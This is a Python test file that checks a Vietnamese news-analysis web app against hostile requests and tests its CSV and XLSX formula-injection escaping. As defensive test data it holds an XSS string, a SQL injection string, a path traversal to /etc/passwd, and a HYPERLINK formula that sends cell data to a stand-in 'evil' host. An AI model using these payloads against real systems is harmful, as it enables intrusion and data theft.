"""Hostile requests (issue 14): every route and parameter, bad hosts, other methods, a failing page,
and spreadsheet formula injection. No answer is a 500 unless the app really fails; every answer
carries the security headers; no traceback reaches a client."""

from __future__ import annotations

import csv
import io
import logging
from datetime import date, datetime
from pathlib import Path
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from extract.nlp import VietnameseNLP
from pipeline import spreadsheet
from pipeline.web import queries
from pipeline.web.app import create_app
from test_web import SampleArticle, amount, build_sample_db, unit

SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")
ROUTES = {
    "/": ("page", "from", "to", "province", "level", "kind", "family", "source", "unit", "q", "undated"),
    "/search": ("q", "page", "from", "to", "province", "level", "kind", "family", "source", "undated"),
    "/awards": ("page", "from", "to", "province", "level", "family", "source", "unit", "undated"),
    "/unit": ("name", "page"),
    "/province": ("name",),
    "/provinces": (),
    "/export.csv": ("from", "to", "province", "level", "kind", "family", "q", "undated"),
    "/export.xlsx": ("from", "province", "kind"),
    "/awards.csv": ("from", "to", "province", "level", "family"),
    "/awards.xlsx": ("to", "family"),
    "/digest": ("week", "month", "province", "format"),
}
COMMON = ["²", "٣", "9" * 5000, "", " ", "\x00", "a\nb", "x" * 300, "🙂" * 80, "<script>alert(1)</script>",
          "' OR 1=1 --", "../../etc/passwd", "=HYPERLINK(\"http://x\")"]
BY_PARAMETER = {
    "page": ["-1", "0", "1e9", "0x10", "１２", "100001"],
    "from": ["0001-01-01", "9999-12-31", "2024-02-30", "10000-01-01", "2024-1-1", "2024-13-01"],
    "week": ["0001-W01", "9999-W52", "1-W1", "2024-W00", "2024-W54", "2024-W5", "2021-W53"],
    "month": ["0001-01", "9999-12", "2024-13", "2024-00", "24-07"],
    "format": ["pdf", "HTML", "docx "],
    "undated": ["0", "true", "2"],
}
BY_PARAMETER["to"] = BY_PARAMETER["from"]
HOSTILE = COMMON + [v for values in BY_PARAMETER.values() for v in values]


FORMULA = '=HYPERLINK("http://evil/steal"&A1, "Bấm vào đây")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    article = SampleArticle(
        "https://laodong.example/cong-doan/cong-thuc", "laodong", "=1+2 tiêu đề như công thức", "2024-05-30 08:00",
        f"{FORMULA} Công đoàn Điện lực Hà Nội trao 50 suất quà cho công nhân.\n"
        "-5 là một con số; +84 là mã vùng; @mention không phải công thức.",
        [unit("Công đoàn Điện lực Hà Nội", "Công đoàn Điện lực Hà Nội", "province_industry", "Hà Nội", "Hà Nội"),
         amount("50 suất quà", "count", 50, counted="suất quà")],
    )
    return build_sample_db(tmp_path_factory.mktemp("hostile") / "congdoan.duckdb", VietnameseNLP(components=()),
                           [article])


@pytest.fixture(scope="module")
def client(hostile_db: Path) -> TestClient:
    return TestClient(create_app(hostile_db), base_url="http://127.0.0.1", raise_server_exceptions=False)


def assert_safe(response, expect: set[int] | None = None) -> None:
    for header in SECURITY_HEADERS:
        assert header in response.headers, (response.url, response.status_code, header)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "Traceback" not in response.text and 'File "' not in response.text
    assert response.status_code in (expect or {200, 400, 404}), (response.url, response.status_code)


@pytest.mark.slow
def test_every_route_and_parameter_survives_hostile_values(client: TestClient) -> None:
    answered = 0
    for route, names in ROUTES.items():
        assert_safe(client.get(route, params={"name": "Hà Nội"} if route in ("/unit", "/province") else {}))
        for name in names:
            for value in COMMON + BY_PARAMETER.get(name, []):
                params = {name: value}
                if route in ("/unit", "/province") and name != "name":
                    params["name"] = "Hà Nội"
                response = client.get(route, params=params)
                assert_safe(response)
                if response.status_code == 400:
                    assert "Yêu cầu không hợp lệ" in response.text  # a Vietnamese page
                answered += 1
    for value in HOSTILE:
        assert_safe(client.get("/article/" + quote(value, safe="")))
    assert answered > 700


@pytest.mark.parametrize("path, params", [
    ("/", {"page": "²"}), ("/", {"page": "9" * 5000}), ("/search", {"q": "x", "page": "²"}),
    ("/unit", {"name": "x", "page": "²"}), ("/digest", {"week": "0001-W01"}), ("/digest", {"week": "9999-W52"}),
    ("/digest", {"week": "1-W1"}), ("/digest", {"month": "2024-13"}), ("/", {"from": "0001-01-01"}),
    ("/", {"to": "9999-12-31"}), ("/article/²", {}), ("/article/" + "9" * 30, {}),
])
def test_the_reported_500s_are_vietnamese_400s(client: TestClient, path: str, params: dict[str, str]) -> None:
    response = client.get(path, params=params)
    assert_safe(response, {400})
    assert "Yêu cầu không hợp lệ" in response.text


def test_other_methods_missing_pages_and_bad_hosts_carry_the_headers(client: TestClient, hostile_db: Path) -> None:
    for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"):
        response = client.request(method, "/")
        assert_safe(response, {405})
        assert response.headers["allow"] == "GET, HEAD"
    assert_safe(client.get("/khong-co-trang-nay"), {404})
    assert_safe(client.get("/static/khong-co.css"), {404})
    assert_safe(client.head("/"), {200})
    for host in ("evil.example", "127.0.0.1.evil.example", "localhost.evil", ""):
        response = client.get("/", headers={"host": host})
        assert_safe(response, {400})
        assert "--allowed-host" in response.text
    allowed = TestClient(create_app(hostile_db, allowed_hosts=["diemnhan.example.vn"]),
                         base_url="http://diemnhan.example.vn:8080")
    assert_safe(allowed.get("/"), {200})
    assert_safe(allowed.get("/", headers={"host": "127.0.0.1"}), {400})


def test_a_failing_page_is_a_vietnamese_500_with_headers_and_the_traceback_only_in_the_log(
        client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("secret detail of the failure")

    monkeypatch.setattr(queries, "feed", broken)
    with caplog.at_level(logging.ERROR, logger="pipeline.web.app"):
        response = client.get("/")
    assert_safe(response, {500})
    assert "Đã có lỗi" in response.text and "secret detail" not in response.text
    assert any(r.exc_info and "secret detail" in str(r.exc_info[1]) for r in caplog.records)


def test_formula_cells_are_text_in_xlsx_and_prefixed_in_csv(client: TestClient) -> None:
    rows = list(csv.reader(io.StringIO(client.get("/export.csv").content.decode("utf-8-sig"))))
    header = rows[0]
    sentence = rows[1][header.index("Câu trích")]
    assert sentence.strip() == "'" + FORMULA + " Công đoàn Điện lực Hà Nội trao 50 suất quà cho công nhân."
    assert rows[1][header.index("Tiêu đề bài")] == "'=1+2 tiêu đề như công thức"
    assert rows[1][header.index("Giá trị")] == "50.0"  # numbers are left alone
    sheet = load_workbook(io.BytesIO(client.get("/export.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(2, header.index("Câu trích") + 1)
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
    title = sheet.cell(2, header.index("Tiêu đề bài") + 1)
    assert title.data_type == "s" and title.value == "=1+2 tiêu đề như công thức"


@pytest.mark.parametrize("value, risky", [
    ("=1+1", True), ("+84 912", True), ("-5 người", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
    ("Bằng khen", False), ("", False), (" =1", False), (-5, False), (3.5, False), (None, False),
])
def test_the_one_rule_for_every_download(value: object, risky: bool) -> None:
    assert spreadsheet.is_formula_like(value) is risky
    assert spreadsheet.csv_cell(value) == ("'" + value if risky else value)


def test_the_rule_in_sql_for_copy_to_csv() -> None:
    import duckdb

    con = duckdb.connect()
    got = con.execute(f"SELECT {spreadsheet.sql_csv_cell('v')} FROM (VALUES ('=1+1'), ('@x'), ('ok'), ('-2')) t(v)"
                      ).fetchall()
    assert got == [("'=1+1",), ("'@x",), ("ok",), ("'-2",)]


def test_the_streamed_workbook_opens_as_the_one_openpyxl_wrote() -> None:
    rows = [[date(2024, 5, 29), "Bằng khen", 3.5e9, 12, None, "=SUM(A1)", "a\x0bb <&> \"x\""]] * 2500
    headers = ["Ngày", "Loại", "Giá trị", "Số lượng", "Trống", "Câu", "Khác"]
    chunks = list(spreadsheet.xlsx_stream("Dữ liệu", headers, [11, 12, 16, 9, 5, 80, 20], iter(rows), batch=1000))
    assert len(chunks) > 3 and chunks[0]  # sent while the rows are read
    book = load_workbook(io.BytesIO(b"".join(chunks)))
    sheet = book["Dữ liệu"]
    values = list(sheet.values)
    assert list(values[0]) == headers and len(values) == 2501
    assert values[1][:4] == (datetime(2024, 5, 29), "Bằng khen", 3.5e9, 12) and values[1][4] is None
    assert values[2500][6] == 'ab <&> "x"'  # characters XML cannot hold are dropped
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:G2501"
    assert sheet.cell(1, 1).font.b and sheet.column_dimensions["F"].width == 80
    formula = sheet.cell(2, 6)
    assert formula.data_type == "s" and formula.quotePrefix and formula.value == "=SUM(A1)"
    assert sheet.cell(2, 1).is_date


def test_a_csv_download_starts_before_its_rows_are_read() -> None:
    from pipeline.web.app import HIGHLIGHT_COLUMNS, _csv_chunks

    read = []

    def records():
        read.append(1)
        yield ["x"] * len(HIGHLIGHT_COLUMNS)

    chunks = _csv_chunks(HIGHLIGHT_COLUMNS, records())
    first = next(chunks)
    assert first.decode("utf-8").startswith('\ufeff"Ngày","Loại"') and not read
    assert b"".join(chunks).count(b'"x"') == len(HIGHLIGHT_COLUMNS) and read
